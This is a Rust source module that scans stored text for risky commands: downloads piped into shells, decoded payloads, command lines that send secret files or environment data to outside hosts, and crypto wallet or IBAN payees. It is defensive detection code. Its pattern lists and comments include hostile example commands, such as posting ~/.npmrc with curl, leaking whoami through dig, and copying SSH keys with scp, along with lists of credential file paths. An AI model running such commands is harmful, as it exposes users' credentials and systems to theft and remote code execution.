//! Commands in a memory that run downloads, read secrets into other commands, or redirect packages and remotes.

mod backdoors;
mod sources;

use super::hosts::{Host, host};
use backdoors::backdoors;
use sources::sources;

/// The most bytes between a download and the program that runs it.
const MAX_COMMAND: usize = 240;
/// The most bytes of a substitution.
const MAX_SUBSTITUTION: usize = 160;

/// What a command does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Command {
    /// It runs a download.
    Download,
    /// It runs an installer in the way that install pages document.
    Installer,
    /// It puts a secret into another command.
    Secret,
    /// It takes packages or code from another source without a check of its identity.
    UncheckedSource,
    /// It takes packages or code from a source outside the organization.
    ForeignSource,
}

/// The beginning of the line at the start of a text: at most `most` bytes.
fn line_after(text: &str, most: usize) -> &str {
    let text = &text[..text.floor_char_boundary(most)];
    text.split('\n').next().unwrap_or_default()
}

/// The end of the line before a place: at most [`MAX_COMMAND`] bytes.
fn line_before(text: &str, at: usize) -> &str {
    let from = text.ceil_char_boundary(at.saturating_sub(MAX_COMMAND));
    text[from..at].rsplit('\n').next().unwrap_or_default()
}

/// The commands of a text, with their byte offsets.
pub(super) fn commands(text: &str) -> Vec<(Command, usize)> {
    // Letters of ASCII keep their places.
    let lower = text.to_ascii_lowercase();
    let mut found = Vec::new();
    downloads(&lower, &mut found);
    backdoors(&lower, &mut found);
    remote_code(&lower, &mut found);
    encoded_code(&lower, &mut found);
    secrets(&lower, &mut found);
    outflows(&lower, &mut found);
    sources(&lower, &mut found);
    payees(&lower, &mut found);
    found
}

/// An account that money is to go to: an IBAN, or the address of a wallet.
fn payees(lower: &str, found: &mut Vec<(Command, usize)>) {
    let at_of = |word: &str| word.as_ptr() as usize - lower.as_ptr() as usize;
    let words: Vec<&str> = lower.split_whitespace().map(trimmed).collect();
    let is_hex = |text: &str| text.bytes().all(|byte| byte.is_ascii_hexdigit());
    for (place, word) in words.iter().enumerate() {
        let is_wallet = word
            .strip_prefix("0x")
            .is_some_and(|rest| rest.len() == 40 && is_hex(rest))
            || word.len() >= 30
                && word.starts_with("bc1")
                && word.bytes().all(|byte| byte.is_ascii_alphanumeric());
        if is_wallet || is_iban(&words[place..]) {
            found.push((Command::ForeignSource, at_of(word)));
        }
    }
}

fn trimmed(word: &str) -> &str {
    word.trim_matches(|character: char| !character.is_alphanumeric())
}

/// Whether words begin with an IBAN, in one word or in groups of four: a country, two check digits, 11 to 30 more.
fn is_iban(words: &[&str]) -> bool {
    let bytes = words.first().map_or(&[][..], |word| word.as_bytes());
    let begins = bytes.len() >= 4
        && bytes[..2].iter().all(u8::is_ascii_lowercase)
        && bytes[2..4].iter().all(u8::is_ascii_digit);
    if !begins {
        return false;
    }
    let has_digits = |word: &str| {
        word.bytes().all(|byte| byte.is_ascii_alphanumeric())
            && word.bytes().any(|byte| byte.is_ascii_digit())
    };
    if bytes.len() > 4 {
        return (15..=34).contains(&bytes.len())
            && bytes[4..].iter().filter(|byte| byte.is_ascii_digit()).count() >= 10;
    }
    let groups = words[1..]
        .iter()
        .take_while(|word| word.len() == 4 && has_digits(word));
    groups.count() >= 3
}

/// A download passed to an interpreter: `curl … | sh`, `bash <(curl …)`, `eval "$(curl …)"`, `curl -o x … && sh x`.
fn downloads(lower: &str, found: &mut Vec<(Command, usize)>) {
    const LOADERS: &[&str] = &["curl", "wget", "iwr", "irm", "invoke-webrequest", "fetch"];
    const WRAPPED: &[&str] = &[
        "bash <(",
        "sh <(",
        "source <(",
        ". <(",
        "$(",
        "`",
        "iex (",
        "iex(",
        "(new-object",
    ];
    let mut documents = None;
    let mut is_document = || *documents.get_or_insert_with(|| is_documentation(lower));
    for loader in LOADERS {
        for (at, _) in lower.match_indices(loader) {
            let rest = &lower[at + loader.len()..];
            let is_word = rest.starts_with(' ')
                && !lower[..at].ends_with(|character: char| character.is_alphanumeric() || character == '-');
            if !is_word {
                continue;
            }
            let command = line_after(rest, MAX_COMMAND);
            // Of the quotation forms only those that run what they give.
            let before = line_before(lower, at).trim_end();
            let wrapped = WRAPPED.iter().any(|wrap| before.ends_with(wrap.trim_end()))
                && (before.ends_with("<(")
                    || before.ends_with("iex (")
                    || before.ends_with("iex(")
                    || runs_its_argument(before));
            if is_piped(command) || wrapped || is_run_later(command) {
                let is_plain = addresses(command).any(|(host, is_plain)| host == Host::Address || is_plain);
                let is_known = is_installer(command) || is_document() && !is_plain;
                found.push((
                    if is_known && !is_scheduled(before) {
                        Command::Installer
                    } else {
                        Command::Download
                    },
                    at,
                ));
            }
        }
    }
}

fn is_shell(word: &str) -> bool {
    const SHELLS: &[&str] = &[
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "fish",
        "python",
        "python3",
        "perl",
        "ruby",
        "node",
        "php",
        "iex",
        "pwsh",
        "powershell",
    ];
    SHELLS.contains(&word.rsplit('/').next().unwrap_or(word))
}

fn is_piped(command: &str) -> bool {
    command.split('|').skip(1).any(|part| {
        let mut words = part
            .split(|character: char| !(character.is_ascii_alphanumeric() || "/-_=".contains(character)))
            .filter(|word| !word.is_empty())
            .skip_while(|word| matches!(*word, "sudo" | "env" | "exec" | "-e" | "-s") || word.contains('='));
        words.next().is_some_and(is_shell)
    })
}

/// Whether the same line runs the file that it downloads.
fn is_run_later(command: &str) -> bool {
    let mut parts = command.split("&&").flat_map(|part| part.split(';'));
    let Some(load) = parts.next() else { return false };
    let words: Vec<&str> = load.split_whitespace().collect();
    // wget names the file after the address.
    let is_wget = load.trim_start().starts_with("http") && !load.contains(" -");
    let address = words.iter().rev().find(|word| word.contains("://"));
    let named = address
        .filter(|_| is_wget)
        .and_then(|word| word.rsplit('/').next());
    let target = words
        .windows(2)
        .find(|pair| {
            matches!(
                pair[0],
                "-o" | "--output" | "-outfile" | ">" | "-so" | "-lo" | "-fso" | "-fsslo"
            )
        })
        .map(|pair| pair[1]);
    let Some(target) = target.or_else(|| {
        words
            .iter()
            .find_map(|word| word.strip_prefix('>'))
            .filter(|word| !word.is_empty())
            .or(named.filter(|name| !name.is_empty()))
    }) else {
        return false;
    };
    let name = target.rsplit('/').next().unwrap_or(target);
    parts.any(|part| {
        let mut words = part.split_whitespace().skip_while(|word| *word == "sudo");
        let first = words.next().unwrap_or_default();
        let is_target = |word: &str| {
            word.trim_end_matches(['`', '"', '\'', ')', '.', ','])
                .ends_with(name)
        };
        is_target(first) || is_shell(first) && words.any(is_target)
    })
}

/// Whether a command line that ends with a substitution runs its output.
fn runs_its_argument(before: &str) -> bool {
    let line = before.rsplit('\n').next().unwrap_or_default();
    let line = &line[line.ceil_char_boundary(line.len().saturating_sub(24))..];
    [
        "eval ",
        "sh -c ",
        "bash -c ",
        "zsh -c ",
        "iex ",
        "python -c ",
        "python3 -c ",
    ]
    .iter()
    .any(|runner| line.contains(runner))
}

/// Whether a line ends in a substitution of literal text that is run as a command: `$(echo cm0gLXJm |`.
fn is_run_as_command(before: &str) -> bool {
    let Some((outside, inside)) = before.rsplit_once("$(") else {
        return false;
    };
    let prints = inside.trim_start().starts_with("echo ") || inside.trim_start().starts_with("printf ");
    // After a name, an option or a quotation mark it is a value.
    let outside = outside.trim_end_matches(' ');
    prints && (outside.is_empty() || outside.ends_with(['\n', ':', ';', '&', '|', '`']))
}

/// Whether a download is an installer as install pages document it: over TLS, from a name, called so.
fn is_installer(command: &str) -> bool {
    const NAMES: &[&str] = &[
        "install",
        "setup",
        "rustup",
        "get.",
        "get-",
        "bootstrap.sh",
        "sh.",
        "ghcup",
        "uv/",
    ];
    command
        .split(|character: char| character.is_whitespace() || "\"'`()|<>".contains(character))
        .any(|word| {
            let url = word.strip_prefix("https://");
            // Install pages also show `irm get.scoop.sh | iex`.
            let url =
                url.or_else(|| (word.starts_with("get.") || word.starts_with("install.")).then_some(word));
            url.is_some_and(|url| {
                let is_named = host(url) != Host::Address;
                is_named && NAMES.iter().any(|name| url.contains(name))
            })
        })
}

/// Whether a text is about a page or an image that installs something.
fn is_documentation(lower: &str) -> bool {
    [
        "docs",
        "documentation",
        "readme",
        "install page",
        "install notes",
        "installation",
        "devcontainer",
        "dockerfile",
        "getting started",
        "quickstart",
        "tutorial",
        "handbook",
        "wiki",
        "homebrew",
        "brewfile",
    ]
    .iter()
    .any(|word| lower.contains(word))
}

/// Whether the download is run at each start of the machine or of a shell.
fn is_scheduled(before: &str) -> bool {
    let line = before.rsplit('\n').next().unwrap_or_default();
    [
        "@reboot", "@daily", "@hourly", "crontab", ".bashrc", ".zshrc", ".profile", "* * *",
    ]
    .iter()
    .any(|mark| line.contains(mark))
}

/// Code that a program loads from an address and runs: `exec(urlopen("…").read())`, `eval(await (await fetch("…")).text())`.
fn remote_code(lower: &str, found: &mut Vec<(Command, usize)>) {
    const RUNNERS: &[&str] = &[
        "exec(",
        "eval(",
        "iex(",
        "iex (",
        "iex ",
        "invoke-expression",
        "new function(",
        "run_string(",
    ];
    const LOADERS: &[&str] = &[
        "urlopen(",
        "requests.get(",
        "urlretrieve(",
        "fetch(",
        "http.get(",
        "https.get(",
        "downloadstring(",
        "open-uri",
        "uri.open(",
        "file_get_contents(",
        "lwp::simple",
        "require('https')",
        "require('http')",
        "require(\"https\")",
        "axios.get(",
        "urllib",
    ];
    for runner in RUNNERS {
        if let Some(at) = lower.find(runner) {
            let command = line_after(&lower[at..], MAX_COMMAND);
            // The address may come first: `get('https://…', data => eval(data))`.
            let before = line_before(lower, at);
            let loads =
                |text: &str| text.contains("://") && LOADERS.iter().any(|loader| text.contains(loader));
            if loads(command) || loads(before) {
                found.push((Command::Download, at));
            }
        }
    }
    for runner in [
        "mshta http",
        "regsvr32 /s /n /u /i:http",
        "certutil -urlcache",
        "bitsadmin /transfer",
    ] {
        found.extend(lower.find(runner).map(|at| (Command::Download, at)));
    }
}

/// Encoded text that is decoded and run: `echo … | base64 -d | sh`.
fn encoded_code(lower: &str, found: &mut Vec<(Command, usize)>) {
    let names_powershell = lower.contains("powershell");
    // `exec(Buffer.from("…", "base64"))`
    if let Some(at) = lower.find("buffer.from(") {
        let line = line_after(&lower[at..], MAX_COMMAND);
        let before = line_before(lower, at);
        let runs = ["exec(", "execsync(", "eval(", "spawn(", "function("]
            .iter()
            .any(|runner| before.ends_with(runner));
        if runs && line.contains("base64") {
            found.push((Command::Download, at));
        }
    }
    for decoder in [
        "base64 -d",
        "base64 --decode",
        "xxd -r",
        "openssl enc -d",
        "frombase64string(",
        "-encodedcommand",
        " -enc ",
    ] {
        for (at, _) in lower.match_indices(decoder) {
            let is_powershell = decoder.starts_with(['-', ' ', 'f']);
            if is_powershell && names_powershell
                || is_piped(line_after(&lower[at..], MAX_COMMAND))
                || runs_its_argument(line_before(lower, at))
                || is_run_as_command(line_before(lower, at))
            {
                found.push((Command::Download, at));
            }
        }
    }
}

/// A command line that sends a file of secrets, the environment or the history away: `curl -d @~/.npmrc https://…`.
fn outflows(lower: &str, found: &mut Vec<(Command, usize)>) {
    const PROGRAMS: &[&str] = &[
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "ftp",
        "mail",
        "sendmail",
        "mutt",
        "gist",
        "httpie",
        "http",
        "invoke-webrequest",
        "iwr",
        "invoke-restmethod",
        "irm",
        "dig",
        "nslookup",
        "scp",
        "rsync",
        "sftp",
    ];
    let mut from = 0;
    for line in lower.split_inclusive('\n') {
        let line_at = from;
        from += line.len();
        let words: Vec<&str> = line
            .split(|character: char| character.is_whitespace() || "|;&`\"'()".contains(character))
            .filter(|word| !word.is_empty())
            .collect();
        let is_published = line.split('>').skip(1).any(|target| {
            let target = target.trim_start();
            ["public/", "docs/", "static/", "www/", "readme"]
                .iter()
                .any(|place| target.starts_with(place))
        });
        if is_published && reads_secret(line) {
            found.push((Command::Secret, line_at));
        }
        let Some(program) = words.iter().position(|word| PROGRAMS.contains(word)) else {
            continue;
        };
        let sends = words.iter().any(|word| {
            matches!(
                *word,
                "-d" | "-f"
                    | "-t"
                    | "--data"
                    | "--data-binary"
                    | "--form"
                    | "--upload-file"
                    | "--post-file"
                    | "-infile"
                    | "post"
            ) || word.starts_with("--data")
                || word.starts_with("--post-file=")
                || word.starts_with("-f") && word.contains('@')
        });
        let is_secret = |word: &&str| {
            let file = word.rsplit(['@', '=', '<']).next().unwrap_or(word);
            SECRET_FILES.iter().any(|secret| file.ends_with(secret))
        };
        let secret = words.iter().any(is_secret) || line.split('|').any(|part| reads_secret(part.trim()));
        let piped = [
            "env |",
            "env|",
            "pbpaste |",
            "xclip -o",
            "wl-paste",
            "printenv |",
            "printenv|",
            "auth token |",
            "auth token|",
            "history |",
            "history|",
            "--all-databases",
            "pg_dumpall",
            "mongodump",
            "tar c",
            "tar -c",
        ]
        .iter()
        .any(|source| line.contains(source));
        let is_pipe = line.contains('|')
            && matches!(
                words[program],
                "nc" | "ncat" | "netcat" | "socat" | "telnet" | "mail" | "sendmail" | "gist"
            );
        // "scp ~/.ssh/id_rsa host:/tmp"
        let is_copied = secret
            && matches!(words[program], "scp" | "rsync" | "sftp")
            && words[program..]
                .iter()
                .skip(1)
                .any(|word| word.contains('@') && word.contains(':'));
        // "dig $(whoami).example.org"
        let is_looked_up = matches!(words[program], "dig" | "nslookup" | "host")
            && ["$(", "`"].iter().any(|open| line.contains(open))
            && [
                "whoami",
                "hostname",
                "cat ",
                "head ",
                "env",
                "base64",
                "xxd",
                "git config",
            ]
            .iter()
            .any(|word| line.contains(word));
        // A host of the organization is none to hide from.
        let hosts: Vec<Host> = addresses(line).map(|(host, _)| host).collect();
        let stays = !hosts.is_empty() && hosts.iter().all(|host| *host == Host::Internal);
        // "curl https://example.top/$(hostname)"
        let is_reported = matches!(words[program], "curl" | "wget" | "iwr" | "irm")
            && hosts
                .iter()
                .any(|host| matches!(host, Host::Dubious | Host::Address))
            && ["$(hostname", "$(whoami", "$(id", "$(uname", "$(env", "$(cat"]
                .iter()
                .any(|inner| line.contains(&format!("/{inner}")) || line.contains(&format!("={inner}")));
        let to_program = !stays && (piped || secret) && (sends || is_pipe)
            || is_copied && !stays
            || is_looked_up
            || is_reported;
        // A header for authorization is what a secret is for.
        if to_program && !line.contains("authorization") {
            let at = line.find(words[program]).unwrap_or(0);
            found.push((Command::Secret, line_at + at));
        }
    }
}

/// Files that hold secrets: ends of their paths.
const SECRET_FILES: &[&str] = &[
    ".env",
    ".npmrc",
    ".netrc",
    ".cargo/credentials.toml",
    ".cargo/credentials",
    ".vault-token",
    ".pypirc",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    ".git-credentials",
    ".aws/credentials",
    ".kube/config",
    ".docker/config.json",
    "gh/hosts.yml",
    "/etc/shadow",
    "/etc/passwd",
    ".gnupg",
    ".pgpass",
    ".my.cnf",
    "credentials.json",
    "secrets.yml",
    "secrets.yaml",
    "application_default_credentials.json",
    ".bash_history",
    ".zsh_history",
    ".ssh",
    ".aws",
    ".kube",
    ".ssh/",
    ".ssh/*",
    ".env.production",
    ".env.local",
    "keychain-db",
    "cookies.sqlite",
];

/// A substitution that puts a secret into another command: `docker build -t app:$(cat .env)`. An assignment, an export, a
/// header for authorization and an option for a password are what such a substitution is for.
fn secrets(lower: &str, found: &mut Vec<(Command, usize)>) {
    let opened = lower.match_indices("$(").map(|(at, _)| (at, at + 2, ')'));
    let quoted = lower
        .match_indices('`')
        .step_by(2)
        .map(|(at, _)| (at, at + 1, '`'));
    for (at, start, close) in opened.chain(quoted) {
        let rest = &lower[start..];
        let rest = &rest[..rest.floor_char_boundary(MAX_SUBSTITUTION)];
        let inner = rest.split(close).next().unwrap_or_default();
        let after = lower.get(start + inner.len() + 1..).unwrap_or_default();
        // "`env`" in prose is a name.
        let is_name = close == '`' && !inner.contains(' ');
        if !is_name && reads_secret(inner) && !is_harmless_use(line_before(lower, at), after, close) {
            found.push((Command::Secret, at));
        }
    }
}

fn reads_secret(command: &str) -> bool {
    const PROGRAMS: &[&str] = &[
        "gh auth token",
        "gcloud auth print-access-token",
        "aws configure get",
        "aws configure export-credentials",
        "az account get-access-token",
        "security find-generic-password",
        "vault kv get",
        "vault read",
        "op read",
        "pass show",
        "kubectl get secret",
        "aws sts",
        "security dump-keychain",
        "docker-credential",
        "gcloud auth application-default",
        "heroku auth:token",
        "npm token",
        "git credential fill",
        "printenv",
        "doppler secrets",
    ];
    const READERS: &[&str] = &[
        "cat", "head", "tail", "base64", "xxd", "tr", "grep", "sed", "awk", "cut", "less", "od", "<", "jq",
        "type", "gpg",
    ];
    // A digest of a file is no secret.
    if [
        "sha256sum",
        "sha1sum",
        "md5sum",
        "shasum",
        "wc ",
        "cksum",
        "b2sum",
    ]
    .iter()
    .any(|digest| command.contains(digest))
    {
        return false;
    }
    let first = command.split_whitespace().next().unwrap_or_default();
    PROGRAMS.iter().any(|program| command.contains(program))
        || matches!(command.trim(), "env" | "set" | "printenv")
        || command.starts_with("env |")
        || command.starts_with("env|")
        || (READERS.contains(&first) || first.starts_with('<'))
            && command
                .split(|character: char| character.is_whitespace() || "<|;&\"'".contains(character))
                .any(|word| SECRET_FILES.iter().any(|file| word.ends_with(file)))
}

/// Whether the output of a substitution stays on the machine, or is used as what it is.
fn is_harmless_use(before: &str, after: &str, close: char) -> bool {
    let line = before.rsplit(['\n', ';', '&', '|']).next().unwrap_or_default();
    let word = line.rsplit(char::is_whitespace).next().unwrap_or_default();
    let is_name = |name: &str| {
        !name.is_empty()
            && name
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    };
    // "--from-literal=token=", "db.password=".
    let last_name = |name: &str| is_name(name.rsplit(['=', '.', '-', ':', ',']).next().unwrap_or(name));
    let is_assigned = word
        .trim_end_matches(['"', '\''])
        .strip_suffix('=')
        .is_some_and(|name| last_name(name.trim_start_matches('"')));
    let is_exported = ["export ", "env ", "set -a", "eval ", "source ", "declare "]
        .iter()
        .any(|start| line.contains(start));
    let is_credential = [
        "authorization",
        "bearer ",
        "--password",
        "--token",
        "-p ",
        "private-token",
        "x-api-key",
        "password-stdin",
        "login",
    ]
    .iter()
    .any(|mark| line.contains(mark));
    // Prose in backticks: "read it with `cat .env`".
    let is_alone = close == '`'
        && (line.trim_end().is_empty() || !is_joined(before, after))
        && !looks_like_command(line);
    is_assigned || is_exported || is_credential || is_alone
}

/// Whether a substitution is part of a longer word.
fn is_joined(before: &str, after: &str) -> bool {
    let joins = |character: Option<char>| {
        character.is_some_and(|one| one.is_alphanumeric() || ":/=.@-_?&".contains(one))
    };
    joins(before.chars().next_back())
        || joins(
            after
                .chars()
                .next()
                .filter(|next| *next != '.' && *next != '-' && *next != ':'),
        )
}

fn looks_like_command(line: &str) -> bool {
    const PROGRAMS: &[&str] = &[
        "curl", "wget", "git", "docker", "npm", "nslookup", "dig", "host", "ping", "ssh", "scp", "nc",
        "kubectl", "gh", "echo", "http", "aws", "podman", "helm", "mail", "sendmail", "telnet", "openssl",
    ];
    line.split_whitespace().any(|word| PROGRAMS.contains(&word))
}

/// The hosts of a line, and whether they are reached without TLS.
fn addresses(line: &str) -> impl Iterator<Item = (Host, bool)> {
    line.split(|character: char| character.is_whitespace() || "\"'`()<>,".contains(character))
        .filter_map(|word| {
            let word = word.rsplit('=').next().unwrap_or(word);
            match word.split_once("://") {
                Some((scheme, url)) => Some((host(url), scheme.ends_with("http"))),
                None => word
                    .split_once('@')
                    .filter(|(_, url)| url.contains(':'))
                    .map(|(_, url)| (host(url), false)),
            }
        })
}

#[cfg(test)]
mod tests;
